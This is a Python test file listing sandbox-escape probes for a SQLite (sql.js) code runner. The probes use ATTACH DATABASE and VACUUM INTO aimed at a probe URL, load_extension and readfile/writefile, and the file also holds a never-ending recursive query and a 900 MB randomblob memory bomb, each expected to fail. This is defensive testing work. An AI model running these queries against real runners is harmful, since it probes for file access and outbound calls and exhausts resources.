"""SQL (SQLite in sql.js): what its runner must do, for the shared contract suite.

SQL can call no JavaScript, so its attacks are the ways SQLite itself could reach outside the
run: other database files and URIs (ATTACH, VACUUM INTO), extensions, and the shell's file
functions. Each must fail with SQLite's own message while the probe server records nothing."""

from __future__ import annotations

from tests.runners.attacks import Attack
from tests.runners.languages import LanguageCases, StdinCase

#: Counts for ever: only the time limit (or Stop) ends it.
RUNAWAY = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)\nSELECT count(*) FROM n;"

CASES = LanguageCases(
    language="sql",
    hello=("SELECT 1 + 1 AS two;", " two\n-----\n   2\n(1 row)\n"),
    error=("SELECT * FROM users;", "Error: no such table: users"),
    # SQL reads no standard input: what the stdin box (or a test) gives is SQL run after the
    # schema and data, before the code, e.g. a test's own rows.
    stdin=StdinCase(
        code="SELECT greeting FROM t;",
        stdin="CREATE TABLE t (greeting TEXT);\nINSERT INTO t VALUES ('hi');\n",
        output=" greeting\n----------\n hi\n(1 row)\n",
    ),
    loop=RUNAWAY,
    # 256 MiB is SQLite's heap limit in the runner: this asks for 900 MB at once.
    memory_bomb="SELECT length(randomblob(900000000));",
    attacks=(
        Attack(
            "sql-attach-url",
            "sql",
            "ATTACH DATABASE '{probe}/{marker}' AS remote;\nSELECT * FROM remote.sqlite_master;",
            "unable to open database",
        ),
        Attack(
            "sql-attach-uri",
            "sql",
            "ATTACH DATABASE 'file:{marker}?vfs=http&uri={probe}/{marker}' AS remote;",
            "unable to open database",
        ),
        Attack(
            "sql-load-extension",
            "sql",
            "SELECT load_extension('{probe}/{marker}');",
            "no such function: load_extension",
        ),
        Attack(
            "sql-vacuum-into-url",
            "sql",
            "CREATE TABLE t(a);\nVACUUM INTO '{probe}/{marker}';",
            "unable to open database",
        ),
        Attack(
            "sql-shell-file-functions",
            "sql",
            "SELECT readfile('{probe}/{marker}'), writefile('{marker}', 'x');",
            "no such function: readfile",
        ),
    ),
)
